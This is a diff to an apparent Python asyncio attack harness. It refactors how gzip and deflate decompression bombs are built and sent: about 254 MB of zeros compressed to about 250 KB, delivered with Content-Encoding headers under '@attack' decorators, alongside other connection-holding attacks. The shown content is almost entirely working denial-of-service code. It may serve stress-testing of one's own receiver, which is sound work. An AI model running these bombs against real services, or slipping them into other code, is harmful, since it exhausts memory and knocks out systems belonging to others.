@@ -6,7 +6,7 @@ attack opens its connections at once, holds what the receiver holds open, and op
 
 import asyncio
 import base64
-import gzip
+import functools
 import os
 import sys
 import time
@@ -121,21 +121,27 @@ async def multipart_sign_in(reader, writer):
     await reader.read()
 
 
-BOMB = bytes(15_900_000)
-GZIP, DEFLATE = gzip.compress(BOMB * 16, 9), zlib.compress(BOMB * 16, 9)
+@functools.cache
+def bomb(window_bits):
+    """Return 254 MB of zeros in 250 KB, as gzip (31) or deflate (15)."""
+    compressor = zlib.compressobj(wbits=window_bits)
+    return b"".join(compressor.compress(bytes(LARGE)) for _ in range(16)) + compressor.flush()
+
+
+async def send_bomb(reader, writer, coding, window_bits):
+    body = bomb(window_bits)
+    writer.write(head(length=len(body), Content_Encoding=coding, Connection="close", **signature()) + body)
+    await reader.read()
 
 
 @attack(8)
 async def gzip_bombs(reader, writer):
-    writer.write(head(length=len(GZIP), Content_Encoding="gzip", Connection="close", **signature()) + GZIP)
-    await reader.read()
+    await send_bomb(reader, writer, "gzip", 31)
 
 
 @attack(8)
 async def deflate_bombs(reader, writer):
-    headers = {"Content_Encoding": "deflate", "Connection": "close"} | signature()
-    writer.write(head(length=len(DEFLATE), **headers) + DEFLATE)
-    await reader.read()
+    await send_bomb(reader, writer, "deflate", 15)
 
 
 @attack(500)
